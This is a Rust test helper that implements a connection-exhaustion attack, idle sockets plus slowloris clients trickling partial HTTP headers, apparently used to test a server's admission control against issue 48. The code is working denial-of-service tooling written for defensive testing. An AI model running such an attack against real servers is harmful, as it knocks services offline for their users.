//! The connection-slot attack of issue 48, for the admission test and the
//! `slot_attack` example: idle sockets that send nothing, and slow clients
//! that send one header line, wait, and reconnect as soon as they are cut.
#![allow(dead_code)]

use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

/// A running attack; stops (and closes its sockets) when dropped.
pub struct Attack {
    stop: Arc<AtomicBool>,
    /// Connections the attacker opened so far.
    pub connects: Arc<AtomicU64>,
    runtime: Option<tokio::runtime::Runtime>,
}

async fn connect_from(from: IpAddr, to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = match from {
        IpAddr::V4(_) => TcpSocket::new_v4()?,
        IpAddr::V6(_) => TcpSocket::new_v6()?,
    };
    socket.bind(SocketAddr::new(from, 0))?;
    socket.connect(to).await
}

/// Starts `idle` silent sockets and `slow` slowloris loops from `from`
/// against `to`.
pub fn start(to: SocketAddr, from: IpAddr, idle: usize, slow: usize) -> Attack {
    let stop = Arc::new(AtomicBool::new(false));
    let connects = Arc::new(AtomicU64::new(0));
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .unwrap();
    for k in 0..idle + slow {
        let (stop, connects) = (stop.clone(), connects.clone());
        let slowloris = k >= idle;
        runtime.spawn(async move {
            while !stop.load(Ordering::Relaxed) {
                let Ok(mut s) = connect_from(from, to).await else {
                    tokio::time::sleep(Duration::from_millis(10)).await;
                    continue;
                };
                connects.fetch_add(1, Ordering::Relaxed);
                if slowloris {
                    let _ = s.write_all(b"POST /api/solve HTTP/1.1\r\n").await;
                }
                // Hold the socket until the server closes it (read returns
                // 0 or fails), sending one more header line now and then.
                let mut buf = [0u8; 256];
                loop {
                    if stop.load(Ordering::Relaxed) {
                        return;
                    }
                    match tokio::time::timeout(Duration::from_millis(500), s.read(&mut buf)).await {
                        Ok(Ok(0)) | Ok(Err(_)) => break,
                        Ok(Ok(_)) => {}
                        Err(_) if slowloris => {
                            if s.write_all(b"X-a: b\r\n").await.is_err() {
                                break;
                            }
                        }
                        Err(_) => {}
                    }
                }
                if !slowloris {
                    // A plain idle socket does not come back once cut.
                    return;
                }
            }
        });
    }
    Attack {
        stop,
        connects,
        runtime: Some(runtime),
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(rt) = self.runtime.take() {
            rt.shutdown_timeout(Duration::from_secs(1));
        }
    }
}
